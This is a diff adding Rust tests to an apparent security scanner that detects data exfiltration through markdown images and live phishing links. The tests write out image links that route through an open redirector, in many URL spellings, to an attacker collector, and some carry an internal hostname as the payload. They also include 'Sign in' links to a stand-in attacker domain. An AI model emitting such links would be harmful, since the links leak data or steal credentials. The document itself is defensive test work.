@@ -1021,3 +1021,62 @@ fn the_inbound_normaliser_marks_hidden_elements_after_a_quoted_angle_bracket() {
     );
     assert!(!n.hidden_regions().is_empty());
 }
+
+/// Review 39b §5: a redirector's destination is read as a browser reads an address, whatever
+/// its spelling: a special scheme with one slash or none, percent-encoded, a bare host after
+/// `=`, or a host in the redirector's path.
+#[test]
+fn a_redirects_destination_is_read_in_every_spelling_a_browser_follows() {
+    for t in [
+        format!("![s](https://wiki.northwind.example/redirect?to=http:{E}/p.png?d=srv-web01)"),
+        format!("![s](https://wiki.northwind.example/redirect?to=http:/{E}/p.png?d=srv-web01)"),
+        format!("![s](https://wiki.northwind.example/redirect?to=http:\\\\{E}/p.png)"),
+        format!("![s](https://wiki.northwind.example/redirect?to=HTTPS:{E}/p.png)"),
+        format!("![s](https://wiki.northwind.example/redirect?to=http%3A{E}%2Fp.png)"),
+        format!("![s](https://wiki.northwind.example/redirect?to={E}/p.png?d=srv-web01)"),
+        format!("![s](https://wiki.northwind.example/redirect?a=1&to={E}%2Fp.png)"),
+        format!("![s](https://wiki.northwind.example/redirect/{E}/p.png?d=srv-web01)"),
+        format!("![s](https://wiki.northwind.example/r/x/{E}/p.png)"),
+        "![s](https://wiki.northwind.example/proxy/collector.evil.com/p.png)".to_owned(),
+    ] {
+        let r = scan(&t);
+        assert!(
+            loads_from_e(&r)
+                || r.links
+                    .iter()
+                    .any(|l| l.image && l.registered_domain == "evil.com"),
+            "{t:?}\n{r:#?}"
+        );
+    }
+    for t in [
+        "[profile](https://wiki.northwind.example/users/john.doe/profile)",
+        "[bundle](https://wiki.northwind.example/static/app.bundle/main.js?v=1.2.3)",
+        "[search](https://wiki.northwind.example/search?q=report.final&file=notes.md)",
+        "[case](https://soc.northwind.example/cases/1042?next=soc.northwind.example/cases)",
+    ] {
+        let r = scan(t);
+        assert!(!r.flagged(), "{t:?}\n{r:#?}");
+    }
+}
+
+/// Review 39b §5: a browser's URL parser accepts `(`, `)`, `{` and `}` in a host, so
+/// `https://login(.)sso.evil.example/owa` as written is a live link to the attacker's domain,
+/// not a defanged indicator.
+#[test]
+fn a_link_a_browser_accepts_as_written_is_live() {
+    for t in [
+        "[Sign in](https://login(.)sso.evil.example/owa)",
+        "Sign in at https://login{.}sso.evil.example/owa today",
+        "![s](https://x(.)y.evil.example/p.png)",
+    ] {
+        let r = scan(t);
+        assert!(r.external_link && r.live_external_link, "{t:?}\n{r:#?}");
+    }
+    for t in [
+        "C2 was login[.]sso[.]evil[.]example and hxxps://c2(.)evil(.)example/b",
+        "IOC: evil(.)example, blocked",
+    ] {
+        let r = scan(t);
+        assert!(!r.live_external_link, "{t:?}\n{r:#?}");
+    }
+}
